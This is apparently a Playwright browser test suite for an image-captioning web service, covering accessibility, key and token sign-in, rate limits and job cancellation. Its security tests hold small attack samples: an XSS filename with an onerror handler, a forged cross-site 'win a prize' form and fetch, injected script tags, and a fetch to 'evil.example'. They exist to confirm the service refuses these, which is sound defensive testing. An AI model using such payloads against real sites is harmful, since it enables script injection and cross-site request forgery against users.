"""The service's page without scripts, without a key, and under attack, in a real browser."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from mezzetin.captioner import load_captioner
from mezzetin.serving.app import create_app
from mezzetin.serving.keys import add_key
from mezzetin.serving.settings import ServeSettings
from tests.unit.serving.attentive import attentive_bundle
from tests.unit.serving.conftest import listening

TENANT = "11111111-2222-3333-4444-555555555555"
FITS = "document.documentElement.scrollWidth <= window.innerWidth"
LOOKS = [(1280, "light"), (320, "dark")]


@pytest.fixture(scope="module")
def pictures(scenes: Path, tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    """A good one and a broken one, with a name that is markup."""
    broken = tmp_path_factory.mktemp("odd") / "<img src=x onerror=window.stolen=1>.jpg"
    broken.write_bytes(b"\xff\xd8\xff no picture")
    return [next(iter(sorted((scenes / "Images").iterdir()))), broken]


@pytest.fixture(scope="module")
def address(bundle_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A server whose model has attention."""
    model = attentive_bundle(bundle_path, tmp_path_factory.mktemp("attentive"))
    settings = ServeSettings(model=str(model), jobs=tmp_path_factory.mktemp("jobs"), decoders=1, most_pictures=4)
    with listening(create_app(settings)) as served:
        yield served


@contextmanager
def tab_of(chromium: Any, look: tuple[int, str] = LOOKS[0], **options: Any) -> Iterator[Any]:
    context = chromium.new_context(viewport={"width": look[0], "height": 800}, color_scheme=look[1], **options)
    context.set_default_timeout(60_000)
    yield context.new_page()
    context.close()


@pytest.mark.parametrize("look", LOOKS, ids=str)
def test_the_words_of_a_caption_show_where_the_model_looked(
    chromium: Any, address: str, pictures: list[Path], violations: Callable[[Any], Any], look: tuple[int, str]
) -> None:
    with tab_of(chromium, look) as tab:
        tab.goto(address)
        tab.set_input_files("#files", pictures[0])
        words = tab.locator(".word")
        words.first.wait_for()
        heat = tab.locator(".heat")
        assert tab.get_by_role("toolbar", name="Where the model looked").count() == 1 and not heat.is_visible()
        words.nth(1).hover()
        assert heat.is_visible() and words.nth(1).inner_text() in tab.inner_text(".looked")
        light = "canvas => [...canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height).data].join()"
        first = heat.evaluate(light)
        assert len(set(first.split(","))) > 3
        tab.locator("h1").hover()
        assert not heat.is_visible()
        words.first.focus()
        tab.keyboard.press("End")
        assert tab.evaluate("document.activeElement.textContent") == words.last.inner_text()
        assert heat.evaluate(light) != first
        place = words.last.get_attribute("aria-label").partition(": ")[2]
        assert place and tab.inner_text(".looked").endswith(place)
        assert violations(tab) == [] and tab.evaluate(FITS)
        boxes = [tab.locator(name).bounding_box() for name in (".mat", ".heat")]
        assert boxes[0]["x"] <= boxes[1]["x"] and boxes[1]["width"] <= boxes[0]["width"]
        tab.keyboard.press("Escape")
        assert not heat.is_visible()
        # The words are one stop, and the sentence is whole for who hears it.
        tab.keyboard.press("Tab")
        assert tab.evaluate("document.activeElement.className") == "copy"
        assert "".join(tab.locator(".words").all_text_contents()) == tab.locator("p.caption").text_content()


@pytest.mark.parametrize("look", LOOKS, ids=str)
def test_without_scripts_the_form_is_answered_by_a_page(
    chromium: Any, address: str, pictures: list[Path], violations: Callable[[Any], Any], look: tuple[int, str]
) -> None:
    with tab_of(chromium, look, java_script_enabled=False) as tab:
        tab.goto(address)
        assert not tab.get_by_role("button", name="Caption the links").is_visible()
        tab.set_input_files("#files", pictures)
        tab.fill("#links", f"no-link\n{address}/livez")
        tab.get_by_role("button", name="Caption these pictures").click()
        tab.get_by_role("heading", name="1 of 4 captioned").wait_for()
        model = tab.locator("#who .who").inner_text().rpartition(" ")[0]
        card = tab.locator(".card", has_text=pictures[0].name)
        assert card.locator("h4").inner_text() == model and card.locator(".caption").inner_text().endswith(".")
        assert card.locator("img").evaluate("image => image.naturalWidth") > 0
        card.locator("summary", has_text="Where it looked").click()
        assert ": " in card.locator("details[open] li").first.inner_text()
        errors = tab.locator(".card.failed").all_inner_texts()
        assert [text.split("\n")[0] for text in errors] == [pictures[1].name, "no-link", f"{address}/livez"]
        assert "the JPEG picture is damaged" in errors[0] and "give it whole" in errors[1]
        html, url = tab.content(), tab.url
    with tab_of(chromium, look) as tab:
        # The same page once more, for axe: it needs scripts, and the page's own are kept away.
        tab.route("**/*.js", lambda route: route.abort())
        tab.route(url, lambda route: route.fulfill(body=html, content_type="text/html; charset=utf-8"))
        tab.goto(url)
        assert violations(tab) == [] and tab.evaluate(FITS)


def test_without_scripts_a_key_is_asked_for_by_the_browser(chromium: Any, pictures: list[Path], tmp_path: Path) -> None:
    key = add_key("reader", tmp_path / "keys.json")
    settings = ServeSettings(jobs=tmp_path / "jobs", keys_file=tmp_path / "keys.json", decoders=1)
    login = {"username": "any", "password": key}
    with (
        listening(create_app(settings)) as address,
        tab_of(chromium, java_script_enabled=False, http_credentials=login) as tab,
    ):
        tab.goto(address)
        assert not tab.locator("#give").is_visible() and not tab.locator("#key").is_visible()
        tab.get_by_role("link", name="Sign in with your API key").click()
        tab.set_input_files("#files", pictures[0])
        tab.get_by_role("button", name="Caption these pictures").click()
        tab.get_by_role("heading", name="1 of 1 captioned").wait_for()


@pytest.mark.parametrize("keep", [True, False])
def test_the_page_of_a_server_with_keys_asks_for_one(
    chromium: Any, pictures: list[Path], tmp_path: Path, violations: Callable[[Any], Any], keep: bool
) -> None:
    key = add_key("reader", tmp_path / "keys.json")
    settings = ServeSettings(jobs=tmp_path / "jobs", keys_file=tmp_path / "keys.json", decoders=1)
    with listening(create_app(settings)) as address, tab_of(chromium, LOOKS[1]) as tab:
        tab.goto(address)
        assert tab.evaluate("document.activeElement.id") == "key-field" and not tab.locator("#give").is_visible()
        assert load_captioner().info.name not in tab.content()
        assert violations(tab) == [] and tab.evaluate(FITS)
        tab.get_by_label("API key").fill("wrong")
        tab.keyboard.press("Enter")
        tab.locator("#key-why", has_text="That one does not count").wait_for()
        tab.get_by_label("API key").fill(key)
        tab.get_by_label("Keep it in this tab").set_checked(keep)
        tab.get_by_role("button", name="Go on").click()
        tab.locator("#told", has_text="You are in").wait_for()
        assert load_captioner().info.name in tab.inner_text("#who")
        with tab.expect_request("**/score") as request:
            tab.set_input_files("#files", pictures[0])
        assert request.value.header_value("x-api-key") == key
        tab.locator("#told", has_text="1 of 1 captioned").wait_for()
        assert tab.evaluate("[localStorage.length, sessionStorage.length]") == [0, int(keep)]
        assert key not in tab.content() and key not in tab.url
        tab.reload()
        if not keep:
            assert tab.get_by_label("API key").is_visible()
        else:
            tab.locator("#told", has_text="You are in").wait_for()
            assert not tab.get_by_label("API key").is_visible()
            tab.get_by_role("button", name="Forget my key").click()
            assert tab.evaluate("sessionStorage.length") == 0


def test_a_server_of_entra_alone_says_how_to_get_in_and_takes_a_token(chromium: Any, tmp_path: Path) -> None:
    entra = {"entra_tenant": TENANT, "entra_audiences": ("api://captions",), "entra_authority": "http://127.0.0.1:1"}
    with listening(create_app(ServeSettings(jobs=tmp_path, decoders=1, **entra))) as address, tab_of(chromium) as tab:
        tab.goto(address)
        assert f"--tenant {TENANT} --resource api://captions" in tab.inner_text("#key-how")
        token = "eyJhbGciOiJSUzI1NiJ9.e30.c2ln"  # noqa: S105 - nobody signed it
        with tab.expect_request(f"{address}/") as request:
            tab.get_by_label("Access token").fill(token)
            tab.keyboard.press("Enter")
        assert request.value.header_value("authorization") == f"Bearer {token}"
        tab.locator("#key-why", has_text="That one does not count").wait_for()


class Foreign(BaseHTTPRequestHandler):
    """A site that posts to ours, by a form and by a script."""

    target = ""

    def do_GET(self) -> None:
        page = f"""<!doctype html><title>win a prize</title>
            <form method=post action="{self.target}/" enctype="multipart/form-data"><input name=links value=x></form>
            <script>fetch("{self.target}/score", {{method: "POST", mode: "no-cors", credentials: "include",
                body: '{{"urls": ["http://127.0.0.1/"]}}'}}).finally(() => document.forms[0].submit())</script>"""
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(page.encode())

    def log_message(self, format: str, *args: object) -> None:
        pass


def test_what_a_foreign_page_posts_is_refused(chromium: Any, address: str) -> None:
    handler = type("Prize", (Foreign,), {"target": address})
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as site, tab_of(chromium) as tab:
        threading.Thread(target=site.serve_forever, args=(0.05,), daemon=True).start()
        # Our cookie is there; other ports of the same host are even the same site.
        tab.goto(address)
        assert tab.context.cookies()
        answers: list[tuple[str, int]] = []
        tab.on("response", lambda answer: answers.append((answer.url.removeprefix(address), answer.status)))
        tab.goto(f"http://127.0.0.1:{site.server_address[1]}/")
        tab.get_by_role("heading", name="Not from that site").wait_for()
        assert ("/", 403) in answers and ("/score", 200) not in answers
        site.shutdown()


def test_a_script_that_got_into_the_page_does_not_run(chromium: Any, address: str, pictures: list[Path]) -> None:
    with tab_of(chromium) as tab:
        complaints: list[str] = []
        tab.on("console", lambda message: complaints.append(message.text))

        def injected(route: Any) -> None:
            answer = route.fetch()
            html = "<script>window.stolen = 1</script><img src=x onerror='window.stolen = 2'>"
            route.fulfill(response=answer, body=answer.text().replace("<main", f"{html}<main"))

        tab.route(f"{address}/", injected)
        tab.goto(f"{address}/")
        tab.set_input_files("#files", pictures[1])
        tab.locator(".card.failed").wait_for()
        assert tab.locator(".name").inner_text() == pictures[1].name
        asked = "fetch('https://evil.example/').then(() => 'sent', () => 'refused')"
        assert tab.evaluate(asked) == "refused"
        assert tab.evaluate("window.stolen") is None
        assert sum("Content Security Policy" in text for text in complaints) >= 3


def test_who_asks_too_often_is_told_and_gets_through(chromium: Any, pictures: list[Path], tmp_path: Path) -> None:
    with (
        listening(create_app(ServeSettings(jobs=tmp_path, decoders=1, rate=0.5))) as address,
        tab_of(chromium) as tab,
    ):
        tab.goto(address)
        with tab.expect_response(lambda answer: answer.status == 429):
            tab.set_input_files("#files", [pictures[0], pictures[0]])
        tab.locator(".state", has_text="too often for this server: trying again in").first.wait_for()
        tab.locator("#told", has_text="2 of 2 captioned").wait_for()


def test_removing_the_card_of_a_running_job_ends_the_job(chromium: Any, address: str) -> None:
    links = [f"{address}/livez?{number}" for number in range(5)]
    with tab_of(chromium) as tab:
        tab.goto(address)
        tab.route("**/score", lambda route: route.continue_(post_data={"urls": links, "external": []}))
        # The job is soon over; to the page it never ends.
        seen: list[str] = []

        def running(route: Any) -> None:
            if route.request.method == "GET":
                answer = route.fetch()
                seen.append(answer.json()["id"])
                route.fulfill(response=answer, json={**answer.json(), "state": "running", "done": 2, "total": 5})
            else:
                route.continue_()

        tab.route("**/jobs/*", running)
        tab.fill("#links", "https://account.blob.core.windows.net/photographs?sv=1&sr=c&sig=secret")
        tab.get_by_role("button", name="Caption the links").click()
        tab.locator(".state", has_text="2 of 5 pictures").wait_for()
        assert tab.locator("progress").get_attribute("value") == "0.4"
        with tab.expect_response(lambda answer: answer.request.method == "DELETE") as ended:
            tab.get_by_role("button", name="Remove (").click()
        assert ended.value.status == 204
        assert tab.request.get(f"{address}/jobs/{seen[0]}").status == 404
